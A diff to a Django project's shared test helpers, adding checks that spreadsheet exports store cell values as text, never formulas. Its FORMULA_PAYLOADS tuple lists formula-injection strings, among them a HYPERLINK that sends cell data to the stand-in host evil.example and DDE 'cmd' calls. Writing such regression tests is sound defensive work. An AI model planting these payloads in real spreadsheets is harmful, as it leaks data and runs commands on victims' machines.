@@ -1,20 +1,25 @@
 """Helpers the tests share: a real Celery worker process, a real SMTP server's mailbox, the
-test database's address for other processes, and an open round on the demo questionnaire."""
+test database's address for other processes, an open round on the demo questionnaire, and the
+checks that an export's spreadsheets hold data, never formulas."""
 
 import datetime
 import email
+import io
 import os
+import re
 import signal
 import socket
 import subprocess
 import sys
 import threading
 import time
+import zipfile
 from email import policy
 from pathlib import Path
 
 from django.db import connection
 from django.utils import timezone
+from openpyxl import load_workbook
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -179,3 +184,58 @@ def wait_until(predicate, *, timeout: float = 60, what: str = "the condition") -
             return
         time.sleep(0.2)
     raise AssertionError(f"waited {timeout} s for {what}")
+
+
+# --- spreadsheets: exports write data, never formulas (operations/spreadsheets.py) --------------
+
+# Issue 12's two findings, and one for each other character OWASP lists that starts a formula.
+FORMULA_PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "-2+3+cmd|' /C calc'!A0",
+)
+
+
+def xlsx_sheets_with_formulas(content: bytes) -> list[str]:
+    """The sheets of an XLSX file whose XML holds a formula element (<f>)."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<f[\s>/]", archive.read(name))
+        ]
+
+
+def xlsx_typed_cells(content: bytes) -> dict[str, list[list[tuple[object, str]]]]:
+    """Each sheet's cells as (value, openpyxl's data type) per row: "s" text, "n" number, "f" formula."""
+    book = load_workbook(io.BytesIO(content))
+    return {
+        sheet.title: [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
+        for sheet in book.worksheets
+    }
+
+
+def assert_payloads_are_text(*, xlsx: bytes | None = None, csv_rows: list[list[str]] | None = None, starts=False):
+    """Each of FORMULA_PAYLOADS is a text cell of the workbook, whose sheets hold no formula, and a
+    cell of the CSV after a single quote (never without it). With `starts`, a cell that begins with
+    the payload will do (a text composed around it, such as a contact's name, role and address)."""
+
+    def matches(cell: object, text: str) -> bool:
+        return isinstance(cell, str) and (cell.startswith(text) if starts else cell == text)
+
+    if xlsx is not None:
+        sheets = xlsx_sheets_with_formulas(xlsx)
+        assert not sheets, f"<f> elements in {sheets}"
+        cells = [cell for rows in xlsx_typed_cells(xlsx).values() for row in rows for cell in row]
+        formulas = [value for value, data_type in cells if data_type == "f"]
+        assert not formulas, f"formula cells: {formulas}"
+        for payload in FORMULA_PAYLOADS:
+            found = {data_type for value, data_type in cells if matches(value, payload)}
+            assert found == {"s"}, f"{payload!r} is in cells of type {found or 'none'}"
+    if csv_rows is not None:
+        cells = [cell for row in csv_rows for cell in row]
+        for payload in FORMULA_PAYLOADS:
+            assert not any(matches(cell, payload) for cell in cells), f"{payload!r} is in the CSV as it was"
+            assert any(matches(cell, "'" + payload) for cell in cells), f"{payload!r} is not in the CSV"
